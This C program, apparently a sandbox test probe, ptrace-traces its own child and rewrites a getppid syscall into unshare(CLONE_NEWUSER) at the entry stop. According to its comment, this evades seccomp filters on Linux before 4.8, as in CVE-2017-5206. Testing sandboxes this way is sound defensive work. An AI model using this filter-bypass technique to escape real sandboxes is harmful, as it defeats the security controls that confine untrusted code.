// Traces its own child and turns the child's getppid into unshare(CLONE_NEWUSER) at the entry stop: before Linux
// 4.8 the filter had already looked by then (CVE-2017-5206 was the same hole in firejail).
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int child(void) {
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) {
        printf("traceme %d\n", errno);
        fflush(stdout);
        return 2;
    }
    raise(SIGSTOP);
    errno = 0;
    long result = syscall(SYS_getppid, (long)CLONE_NEWUSER);
    printf("rewritten %ld %d\n", result, result < 0 ? errno : 0);
    fflush(stdout);
    return 0;
}

int main(void) {
    pid_t traced = fork();
    if (traced == 0) _exit(child());
    int status = 0;
    waitpid(traced, &status, 0);
    if (!WIFSTOPPED(status)) return 3;
    ptrace(PTRACE_SETOPTIONS, traced, 0, PTRACE_O_TRACESYSGOOD);
    int entering = 1;
    ptrace(PTRACE_SYSCALL, traced, 0, 0);
    while (waitpid(traced, &status, 0) == traced && WIFSTOPPED(status)) {
        if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
            struct user_regs_struct registers;
            ptrace(PTRACE_GETREGS, traced, 0, &registers);
            if (entering && registers.orig_rax == SYS_getppid) {
                registers.orig_rax = SYS_unshare;
                ptrace(PTRACE_SETREGS, traced, 0, &registers);
            }
            entering = !entering;
        }
        ptrace(PTRACE_SYSCALL, traced, 0, 0);
    }
    return 0;
}
